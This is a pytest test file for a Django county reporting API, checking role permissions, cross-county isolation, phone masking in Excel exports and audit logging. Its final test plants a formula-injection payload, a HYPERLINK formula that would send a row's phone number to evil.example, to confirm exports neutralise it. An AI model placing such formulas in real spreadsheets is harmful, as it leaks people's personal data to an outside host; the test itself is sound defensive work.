"""Permission matrix of the reporting API × roles, another county's ids (→ 404), and the exports."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.conf import settings
from django.utils import timezone
from django_tenants.utils import tenant_context
from openpyxl import load_workbook  # type: ignore[import-untyped]
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from banchengshi.audit.models import AuditRecord
from casework.models import StaffRole
from casework.tests.factories import StaffProfileFactory, UserFactory
from reporting.models import ExportLog, QuarterlyReport
from reporting.selectors import Scope, figures, figures_by
from reporting.tests.factories import at
from reporting.urls import urlpatterns

pytestmark = pytest.mark.django_db

READERS = {StaffRole.LEADER, StaffRole.SUPERVISOR, StaffRole.AUDITOR, StaffRole.COUNTY_ADMIN}
Q1 = {"date_from": "2025-01-01", "date_to": "2025-03-31"}
Q1_SCOPE = Scope(datetime.date(2025, 1, 1), datetime.date(2025, 3, 31))

# route name → (method, who may, payload); "{report}" is a report of the county asked.
ROUTES: dict[str, tuple[str, frozenset[str], dict[str, Any]]] = {
    "api-figures": ("get", frozenset(READERS), Q1),
    "api-figures-by": ("get", frozenset(READERS), Q1),
    "api-ranking": ("get", frozenset(READERS), Q1),
    "api-scoring-rule": ("get", frozenset(READERS), {}),
    "api-scoring-rule-set": (
        "post",
        frozenset({StaffRole.LEADER, StaffRole.COUNTY_ADMIN}),
        {
            "on_time_points": "3",
            "solved_points": "1",
            "overdue_deduction": "2",
            "bad_rating_deduction": "5",
            "return_deduction": "1",
        },
    ),
    "api-report-list": ("get", frozenset(READERS), {}),
    "api-report-request": (
        "post",
        frozenset({StaffRole.LEADER, StaffRole.SUPERVISOR, StaffRole.COUNTY_ADMIN}),
        {"year": 2025, "quarter": 2},
    ),
    "api-report-detail": ("get", frozenset(READERS), {}),
    "api-report-download": ("get", frozenset(READERS), {}),
    "api-export-cases": ("get", frozenset(READERS), Q1),
    "api-export-figures": ("get", frozenset(READERS), Q1),
}
PATHS = {
    "api-figures": "reports/figures/",
    "api-figures-by": "reports/figures/department/",
    "api-ranking": "reports/ranking/",
    "api-scoring-rule": "reports/scoring-rule/",
    "api-scoring-rule-set": "reports/scoring-rule/set/",
    "api-report-list": "reports/quarterly/",
    "api-report-request": "reports/quarterly/create/",
    "api-report-detail": "reports/quarterly/{report}/",
    "api-report-download": "reports/quarterly/{report}/download/",
    "api-export-cases": "reports/export/cases/",
    "api-export-figures": "reports/export/figures/",
}


def test_every_api_route_is_in_the_matrix():
    names = {p.name for p in urlpatterns if p.name and p.name.startswith("api-")}
    assert names == set(ROUTES) == set(PATHS)


def _client(county, role: str | None) -> APIClient:
    client = APIClient(HTTP_HOST=f"{county.slug}.{settings.COUNTY_DOMAIN_SUFFIX}")
    if role is not None:
        with tenant_context(county):
            user: Any = UserFactory(username=f"rep-{role}")
            department = None
            if role == StaffRole.DEPARTMENT_HANDLER:
                from casework.models import Department

                department = Department.objects.order_by("code").first()
            StaffProfileFactory(user=user, role=role, department=department)
            client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def _report(county) -> QuarterlyReport:
    from django.core.files.base import ContentFile

    with tenant_context(county):
        maker: Any = UserFactory(username="rep-maker")
        report = QuarterlyReport.objects.create(
            year=2025, quarter=1, as_of=at("2025-04-10"), requested_by=maker, status="done", progress=100
        )
        report.file.save("matrix.pdf", ContentFile(b"%PDF-1.7 test"), save=True)
    return report


def _call(client: APIClient, method: str, path: str, payload: dict[str, Any]) -> Any:
    url = f"/api/v1/{path}"
    return client.get(url, payload) if method == "get" else client.post(url, payload, format="json")


@pytest.mark.parametrize("name", sorted(ROUTES))
def test_permission_matrix(name, county_a, county_b, django_capture_on_commit_callbacks):
    method, allowed, payload = ROUTES[name]
    own = _report(county_a)
    other = _report(county_b)
    for role in [None, *StaffRole.values]:
        client = _client(county_a, role)
        path = PATHS[name].format(report=own.pk)
        with django_capture_on_commit_callbacks(execute=False):
            response = _call(client, method, path, payload)
        if role is None:
            assert response.status_code == 401, (name, role)
        elif role in allowed:
            assert response.status_code in {200, 202}, (name, role, response.content[:300])
        else:
            assert response.status_code in {403, 404}, (name, role, response.status_code)
            if "{report}" in PATHS[name]:
                assert response.status_code == 404
        if "{report}" in PATHS[name] and role in allowed:
            # Another county's report does not exist here.
            response = _call(client, method, PATHS[name].format(report=other.pk), payload)
            assert response.status_code == 404, (name, role)
            assert response.json()["error"]["code"] == "reporting.not_found"


def test_figures_api_gives_the_known_figures(county_a, known_cases):
    client = _client(county_a, StaffRole.LEADER)
    body = client.get("/api/v1/reports/figures/", Q1).json()
    assert body["figures"]["received"] == 9
    assert body["figures"]["forwarded_out"] == 1 and body["figures"]["forwarded_in"] == 1
    assert body["ledger"]["total"] == 3
    rows = client.get("/api/v1/reports/figures/kind/", Q1).json()["rows"]
    assert {r["key"]: r["figures"]["received"] for r in rows} == {"case": 7, "consultation": 2}
    assert client.get("/api/v1/reports/figures/nonsense/", Q1).status_code == 404
    bad = client.get("/api/v1/reports/figures/", {"date_from": "2025-03-01", "date_to": "2025-01-01"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "validation_error"


def _sheet_rows(content: bytes, sheet: str | None = None) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(content), read_only=True)
    return list((book[sheet] if sheet else book.worksheets[0]).iter_rows(values_only=True))


@pytest.mark.parametrize(("role", "full"), [(StaffRole.SUPERVISOR, True), (StaffRole.LEADER, False)])
def test_case_export_masks_phones_unless_the_role_sees_them_and_is_logged(county_a, known_cases, role, full):
    client = _client(county_a, role)
    response = client.get("/api/v1/reports/export/cases/", Q1)
    assert response.status_code == 200
    rows = _sheet_rows(response.content)
    phones = {row[11] for row in rows[1:]}
    names = {row[10] for row in rows[1:]}
    assert len(rows) == 1 + 10  # the quarter's cases, the forwarded one included
    if full:
        assert phones == {"13812345678"} and names == {"廖女士"}
    else:
        assert phones == {"138****5678"} and names == {"廖某"}
    with tenant_context(county_a):
        # Only this test's export: its actor is the user this test made.
        entry = ExportLog.objects.get(actor__username=f"rep-{role}")
        audited = AuditRecord.objects.get(action="reporting.export_cases", object_id=str(entry.pk))
    assert (entry.kind, entry.rows, entry.phones_unmasked, entry.role) == ("cases", 10, full, role)
    assert entry.scope["date_from"] == "2025-01-01"
    # The export is also in the county's tamper-evident audit trail, without the data exported.
    assert audited.actor_id == entry.actor_id
    assert audited.details["rows"] == 10 and audited.details["phones_unmasked"] is full
    assert "13812345678" not in str(audited.details) and "廖女士" not in str(audited.details)


def test_figures_export_has_the_same_figures(county_a, known_cases):
    client = _client(county_a, StaffRole.AUDITOR)
    response = client.get("/api/v1/reports/export/figures/", Q1)
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    summary = dict(list(book.worksheets[0].iter_rows(values_only=True))[1:])
    with tenant_context(county_a):
        expected = figures(scope=Q1_SCOPE, now=timezone.now())
        by_kind = {row.label: row.figures.received for row in figures_by(scope=Q1_SCOPE, dimension="kind")}
    assert summary["收件"] == expected.received == 9
    assert summary["按期办结率（%）"] == round(expected.on_time_rate * 100, 2) == 50.0
    assert summary["差评"] == expected.bad_ratings == 1
    assert summary["回访率（%）"] == round(expected.follow_up_rate * 100, 2)
    kinds = {row[0]: row[1] for row in list(book["诉求类型"].iter_rows(values_only=True))[1:]}
    assert kinds == by_kind == {"办件": 7, "咨询": 2}
    # Only figures: nobody's name or phone number is in the figures workbook.
    text = str([list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets])
    assert "廖女士" not in text and "13812345678" not in text
    with tenant_context(county_a):
        entry = ExportLog.objects.get(actor__username=f"rep-{StaffRole.AUDITOR}")
    assert (entry.kind, entry.phones_unmasked) == ("figures", False)


def test_text_that_looks_like_a_formula_is_exported_as_text(county_a, known_cases):
    """A citizen's =HYPERLINK(…&L2) would otherwise send the row's full phone number away on one click."""
    from casework.models import Case

    attack = '=HYPERLINK("http://evil.example/?"&L2,"点击查看")'
    with tenant_context(county_a):
        Case.objects.filter(pk=Case.objects.order_by("registered_at").first().pk).update(matter=attack)
    rows = _sheet_rows(_client(county_a, StaffRole.SUPERVISOR).get("/api/v1/reports/export/cases/", Q1).content)
    matters = [row[9] for row in rows[1:]]
    assert f"'{attack}" in matters and not any(str(m).startswith("=") for m in matters)
